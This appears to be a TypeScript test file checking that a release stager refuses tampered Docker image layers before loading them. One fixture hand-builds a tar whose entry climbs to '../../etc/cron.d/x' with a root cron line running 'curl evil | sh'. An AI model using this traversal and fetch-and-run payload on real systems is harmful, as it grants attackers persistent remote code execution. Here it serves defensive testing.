import { createHash } from 'node:crypto';
import { writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { brotliCompressSync } from 'node:zlib';
import { describe, expect, it } from 'vitest';
import { stageRelease } from '../../agent/release/stage.js';
import { createChunkStore, type ChunkStore } from '../../shared/content/chunk-store.js';
import type { DockerEngine } from '../../shared/docker.js';
import { encodeLayerIndex } from '../../shared/content/layer-index.js';
import { contentChunks } from '../../shared/content/release-chunks.js';
import type { ChunkRef, ReleaseManifest } from '../../shared/protocol/manifest.js';
import { storeLayer, tarHeader, tarOf } from '../helpers/tar.js';
import { tempDir } from '../helpers/tmp.js';

/** A Docker engine that has no images and fails the test if anything is loaded into it. */
function emptyEngine(loads: unknown[]): DockerEngine {
  return new Proxy({} as DockerEngine, {
    get(_t, prop) {
      if (prop === 'imageInspect') return async () => undefined;
      if (prop === 'loadImage') return async (s: unknown) => void loads.push(s);
      throw new Error(`fake engine: ${String(prop)} not expected here`);
    },
  });
}

function put(store: ChunkStore, data: Buffer): ChunkRef {
  const digest = createHash('sha256').update(data).digest('hex');
  const comp = brotliCompressSync(data);
  store.put(digest, comp, data.byteLength);
  return [digest, data.byteLength, comp.byteLength];
}

function manifest(store: ChunkStore, layers: ReleaseManifest['images'][string]['layers']): ReleaseManifest {
  const config = Buffer.from(JSON.stringify({ rootfs: { diff_ids: layers.map((l) => l.diffId) } }));
  const id = `sha256:${createHash('sha256').update(config).digest('hex')}`;
  return {
    _type: 'release',
    spec: 1,
    app: 'stage',
    version: '1',
    sequence: 1,
    createdAt: '2026-11-26T00:00:00Z',
    services: {},
    images: { [id]: { refs: [], layers, config: { size: config.byteLength, chunks: [put(store, config)] } } },
  };
}

describe('staging a release (before docker load)', () => {
  it('refuses a layer whose reassembled bytes do not match its diff ID, and loads nothing', async () => {
    const store = createChunkStore(tempDir());
    const { layer } = storeLayer(tarOf([{ name: 'app/a.txt', data: Buffer.from('hello') }]), store);
    const loads: unknown[] = [];
    const m = manifest(store, [{ ...layer, diffId: `sha256:${'0'.repeat(64)}` }]);
    await expect(stageRelease(emptyEngine(loads), m, store)).rejects.toThrow(
      /layer 000000000000 reassembled from chunks does not match sha256:000000000000; nothing loaded/,
    );
    expect(loads).toHaveLength(0);
  });

  it('refuses a signed layer whose tar climbs out of the root (a hostile publisher), and loads nothing', async () => {
    const store = createChunkStore(tempDir());
    // Built by hand, as a publisher without Tender's rules would: headers in the index, body as content.
    const body = Buffer.from('* * * * * root sh -c "curl evil | sh"\n');
    const header = tarHeader({ name: '../../etc/cron.d/x' }, body.byteLength);
    const pad = Buffer.alloc(512 - body.byteLength);
    const tar = Buffer.concat([header, body, pad, Buffer.alloc(1024)]);
    const content = put(store, body);
    const index = put(
      store,
      encodeLayerIndex({
        meta: Buffer.concat([header, pad, Buffer.alloc(1024)]),
        contentSize: body.byteLength,
        chunks: [[content[0], content[1]]],
      }),
    );
    const loads: unknown[] = [];
    const m = manifest(store, [
      { diffId: `sha256:${createHash('sha256').update(tar).digest('hex')}`, size: tar.byteLength, index },
    ]);
    await expect(stageRelease(emptyEngine(loads), m, store)).rejects.toThrow(
      /refused: tar entry "..\/..\/etc\/cron.d\/x" climbs out of the image root; nothing loaded/,
    );
    expect(loads).toHaveLength(0);
  });

  it('refuses a config that does not hash to the image ID', async () => {
    const store = createChunkStore(tempDir());
    const { layer } = storeLayer(tarOf([{ name: 'a', data: Buffer.from('x') }]), store);
    const m = manifest(store, [layer]);
    const [id, img] = Object.entries(m.images)[0]!;
    const forged = { ...m, images: { [id]: { ...img, config: { size: 2, chunks: [put(store, Buffer.from('{}'))] } } } };
    const loads: unknown[] = [];
    await expect(stageRelease(emptyEngine(loads), forged, store)).rejects.toThrow(/config of .* does not match/);
    expect(loads).toHaveLength(0);
  });

  it('drops a chunk or an index damaged on disk, so it is fetched again, and loads nothing', async () => {
    const dir = tempDir();
    const store = createChunkStore(dir);
    const { layer, content, index } = storeLayer(tarOf([{ name: 'a.bin', data: Buffer.alloc(100_000, 3) }]), store);
    const m = manifest(store, [layer]);
    const victim = content[0]![0];
    writeFileSync(join(dir, victim.slice(0, 2), victim), 'bit rot');
    const loads: unknown[] = [];
    await expect(stageRelease(emptyEngine(loads), m, store)).rejects.toThrow(
      `chunk ${victim.slice(0, 12)} on board is damaged`,
    );
    expect(store.has(victim)).toBe(false);
    expect(loads).toHaveLength(0);
    // A damaged index is reported missing (and dropped), never trusted.
    writeFileSync(join(dir, index[0].slice(0, 2), index[0]), 'bit rot');
    expect(contentChunks(m, store).missingIndexes).toEqual([index[0]]);
    expect(store.has(index[0])).toBe(false);
  });
});
